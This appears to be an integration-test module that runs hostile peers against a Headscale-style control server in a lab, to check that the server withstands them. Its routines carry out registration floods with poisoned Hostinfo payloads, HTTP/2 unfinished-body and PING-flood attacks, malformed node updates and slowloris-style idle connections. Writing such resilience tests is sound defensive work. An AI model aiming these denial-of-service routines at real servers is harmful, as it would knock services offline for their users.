"""Hostile peers for the attack tests, run as their own process in an attacker namespace:

    python -m tests.integration.attacker ATTACK --url https://198.51.100.1 [options]

Each attack builds its pressure, prints `{"ready": ...}` once it is in place, holds it until
its stdin closes (the test decides how long), then prints `{"done": ...}` with what it
observed. Everything speaks the real protocol through pyheadscale's Python test client
(Noise + HTTP/2 over TLS); SSL_CERT_FILE gives it the lab's CA.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import ssl
import sys
from typing import Any
from urllib.parse import urlsplit

import h2.exceptions
import orjson

from pyheadscale.noise.keys import generate_private_key, public_key
from pyheadscale.testclient import connect
from pyheadscale.testclient.client import ControlConnection

CAPVER = 113


def say(**kw: Any) -> None:
    print(json.dumps(kw), flush=True)


async def until_stdin_closes() -> None:
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, sys.stdin.read)


def nodekey() -> str:
    return "nodekey:" + public_key(generate_private_key()).hex()


def big_hostinfo(kib: int) -> dict[str, Any]:
    """A Hostinfo of about `kib` KiB that is valid (under every cap) as far as it goes."""
    services = [{"Proto": "tcp", "Port": 1 + i, "Description": "d" * 100}
                for i in range(min(500, kib * 1024 // 140))]
    return {"Hostname": "flood", "OS": "linux", "Services": services}


def poisoned_hostinfo() -> dict[str, Any]:
    """The row-1 payload of the report: lists of empty lists where strings belong."""
    return {"Hostname": "flood", "OS": [[] for _ in range(2000)],
            "Services": [[[]] for _ in range(20000)]}


async def register_flood(a: argparse.Namespace) -> None:
    """Anonymous registrations from many machine keys and source addresses; some hold
    their Followup open to try to pin table slots."""
    sources = a.sources.split(",") if a.sources else [""]
    statuses: dict[str, int] = {}
    held: list[ControlConnection] = []
    sem = asyncio.Semaphore(a.concurrency)

    async def one(i: int) -> None:
        src = sources[i % len(sources)]
        async with sem:
            try:
                conn = await connect(a.url, generate_private_key(), CAPVER,
                                     local_addr=(src, 0) if src else None)
            except Exception as e:  # noqa: BLE001 (counted: the server may refuse us)
                statuses[type(e).__name__] = statuses.get(type(e).__name__, 0) + 1
                return
            hi = poisoned_hostinfo() if i % 3 == 0 else big_hostinfo(a.hostinfo_kib)
            body = {"Version": CAPVER, "NodeKey": nodekey(), "Hostinfo": hi}
            try:
                status, _, resp = await conn.request("POST", "/machine/register",
                                                     orjson.dumps(body))
            except Exception as e:  # noqa: BLE001
                statuses[type(e).__name__] = statuses.get(type(e).__name__, 0) + 1
                await conn.close()
                return
            statuses[str(status)] = statuses.get(str(status), 0) + 1
            url = orjson.loads(resp).get("AuthURL") if status == 200 else None
            if url and random.random() < a.followup_share:
                body["Followup"] = url
                body["Hostinfo"] = {"Hostname": "flood"}
                stream = await conn.open_stream("POST", "/machine/register",
                                                orjson.dumps(body))
                del stream  # waits server-side until we close
                held.append(conn)
            else:
                await conn.close()

    await asyncio.gather(*(one(i) for i in range(a.count)))
    say(ready=True, statuses=statuses, held=len(held))
    await until_stdin_closes()
    for c in held:
        with contextlib.suppress(Exception):
            await c.close()
    say(done=True, statuses=statuses)


async def _anonymous(a: argparse.Namespace) -> ControlConnection:
    return await connect(a.url, generate_private_key(), CAPVER)


async def unfinished_bodies(a: argparse.Namespace) -> None:
    """Connections with streams whose bodies never end, pushed as far as the windows go."""
    conns = [await _anonymous(a) for _ in range(a.conns)]
    sent = [0] * len(conns)
    for conn in conns:
        h = conn._h2
        for _ in range(a.streams):
            sid = h.get_next_available_stream_id()
            h.send_headers(sid, [(":method", "POST"), (":scheme", "https"),
                                 (":authority", "unused"), (":path", "/machine/map"),
                                 ("content-length", str(a.body_mib << 20))])
        conn._flush()
    await asyncio.sleep(0.5)
    for _round in range(200):  # push until every window is shut
        progress = 0
        for ci, conn in enumerate(conns):
            h = conn._h2
            for sid in list(h.streams):
                try:
                    room = min(h.local_flow_control_window(sid), h.max_outbound_frame_size)
                except h2.exceptions.StreamClosedError:
                    continue
                if room > 0:
                    h.send_data(sid, b"x" * room)
                    sent[ci] += room
                    progress += room
            conn._flush()
        await asyncio.sleep(0.05 if progress else 0.3)
        if not progress and _round > 5:
            break
    say(ready=True, sent=sent, open=[not c.closed for c in conns])
    await until_stdin_closes()
    say(done=True, sent=sent, open=[not c.closed for c in conns])
    for c in conns:
        with contextlib.suppress(Exception):
            await c.close()


async def control_flood(a: argparse.Namespace) -> None:
    """PINGs (and SETTINGS) without ever reading the answers."""
    conn = await _anonymous(a)
    pipe = conn._pipe
    transport = pipe.writer.transport  # type: ignore[attr-defined]
    transport.pause_reading()  # never read what the server sends back
    sent = 0
    payload = os.urandom(8)
    target = a.mib << 20
    closed_at = None
    deadline = None
    while closed_at is None:
        if sent >= target:  # all sent: the server may still be working through its backlog
            loop = asyncio.get_running_loop()
            deadline = deadline or loop.time() + 30
            if loop.time() > deadline:
                break
            await asyncio.sleep(0.5)
        for _ in range(2000 if sent < target else 10):
            conn._h2.ping(payload)
        if sent % (1 << 20) < 34_000:
            with contextlib.suppress(h2.exceptions.ProtocolError):
                conn._h2.update_settings({4: 65535})
        data = conn._h2.data_to_send()
        conn._pipe.write(conn._records.seal(data))
        sent += len(data)
        try:
            await asyncio.wait_for(pipe.writer.drain(), 5)  # type: ignore[attr-defined]
        except (ConnectionError, TimeoutError, OSError):
            closed_at = sent
            break
        if transport.is_closing():
            closed_at = sent
            break
    say(ready=True, sent=sent, closed_at=closed_at)
    await until_stdin_closes()
    say(done=True, sent=sent, closed_at=closed_at)


async def hostile_node(a: argparse.Namespace) -> None:
    """A registered node that tries to poison its Hostinfo for every peer."""
    machine, node = generate_private_key(), generate_private_key()
    nk = "nodekey:" + public_key(node).hex()
    conn = await connect(a.url, machine, CAPVER)
    reg = {"Version": CAPVER, "NodeKey": nk, "Auth": {"AuthKey": a.authkey},
           "Hostinfo": {"Hostname": "hostile", "OS": "linux"}}
    status, _, resp = await conn.request("POST", "/machine/register", orjson.dumps(reg))
    assert status == 200 and orjson.loads(resp).get("MachineAuthorized"), resp
    disco = "discokey:" + public_key(generate_private_key()).hex()
    base = {"Version": CAPVER, "NodeKey": nk, "DiscoKey": disco, "OmitPeers": True,
            "Endpoints": ["198.51.100.66:41641"]}
    poisons = [
        {"Hostname": "hostile", "OS": 5},  # the report's type error
        {"Hostname": "hostile", "OS": "linux", "NetInfo": {"PreferredDERP": "999"}},
        {"Hostname": "hostile", "Services": [{"Port": 70000}]},
        {"Hostname": "hostile", "RoutableIPs": ["10.0.0.0/33"]},
        {"Hostname": "hostile", "Container": "yes"},
        {"Hostname": "hostile", "OS": "linux", "Padding": "p" * 500_000,
         "Junk": [[[]]] * 1000, "hostname": "hostile"},  # accepted: unknown keys dropped
    ]
    statuses = []
    for hi in poisons:
        status, _, _ = await conn.request("POST", "/machine/map",
                                          orjson.dumps({**base, "Hostinfo": hi}))
        statuses.append(status)
    # Stay online with a streaming poll, as a node does.
    poll = {**base, "Stream": True, "OmitPeers": False, "Compress": "",
            "Hostinfo": {"Hostname": "hostile", "OS": "linux"}}
    del poll["OmitPeers"]
    stream = await conn.open_stream("POST", "/machine/map", orjson.dumps(poll))
    say(ready=True, statuses=statuses, nodekey=nk)
    await until_stdin_closes()
    stream.reset()
    await conn.close()
    say(done=True)


async def idle_sockets(a: argparse.Namespace) -> None:
    """Connections that send nothing, and ones that dribble a request head a byte a second."""
    u = urlsplit(a.url)
    host, port = u.hostname or "", u.port or (443 if u.scheme == "https" else 80)
    ctx = ssl.create_default_context() if u.scheme == "https" else None
    conns: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    failed = 0
    for _ in range(a.count):
        try:
            conns.append(await asyncio.wait_for(
                asyncio.open_connection(host, port, ssl=ctx), 10))
        except (OSError, TimeoutError, ssl.SSLError):
            failed += 1
    head = f"GET /key?v={CAPVER} HTTP/1.1\r\nHost: {host}\r\nX-Pad: {'a' * 200}\r\n\r\n".encode()
    say(ready=True, open=len(conns), failed=failed)
    loop = asyncio.get_running_loop()
    stop = loop.run_in_executor(None, sys.stdin.read)
    closed_after: list[float] = []
    gone: set[int] = set()
    started = loop.time()
    i = 0
    while not stop.done():
        for _r, w in conns[: a.dribble]:
            if not w.is_closing() and i < len(head):
                with contextlib.suppress(ConnectionError, OSError):
                    w.write(head[i:i + 1])
        i += 1
        for k, (r, w) in enumerate(conns):
            if k in gone:
                continue
            eof = r.at_eof()
            if not eof:
                with contextlib.suppress(TimeoutError, ConnectionError, OSError):
                    eof = await asyncio.wait_for(r.read(1024), 0.001) == b""
            if eof:  # the server closed it
                gone.add(k)
                closed_after.append(loop.time() - started)
                w.close()
        await asyncio.sleep(1.0)
    say(done=True, open=len(conns), closed=len(closed_after),
        closed_after_max=max(closed_after, default=None))
    for _, w in conns:
        w.close()


ATTACKS = {"register-flood": register_flood, "bodies": unfinished_bodies,
           "control-flood": control_flood, "hostile-node": hostile_node,
           "idle": idle_sockets}


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("attack", choices=list(ATTACKS))
    ap.add_argument("--url", required=True)
    ap.add_argument("--count", type=int, default=1100)
    ap.add_argument("--concurrency", type=int, default=40)
    ap.add_argument("--sources", default="")
    ap.add_argument("--followup-share", type=float, default=0.3)
    ap.add_argument("--hostinfo-kib", type=int, default=60)
    ap.add_argument("--conns", type=int, default=2)
    ap.add_argument("--streams", type=int, default=100)
    ap.add_argument("--body-mib", type=int, default=1)
    ap.add_argument("--mib", type=int, default=30)
    ap.add_argument("--authkey", default="")
    ap.add_argument("--dribble", type=int, default=0)
    a = ap.parse_args()
    asyncio.run(ATTACKS[a.attack](a))


if __name__ == "__main__":
    main()
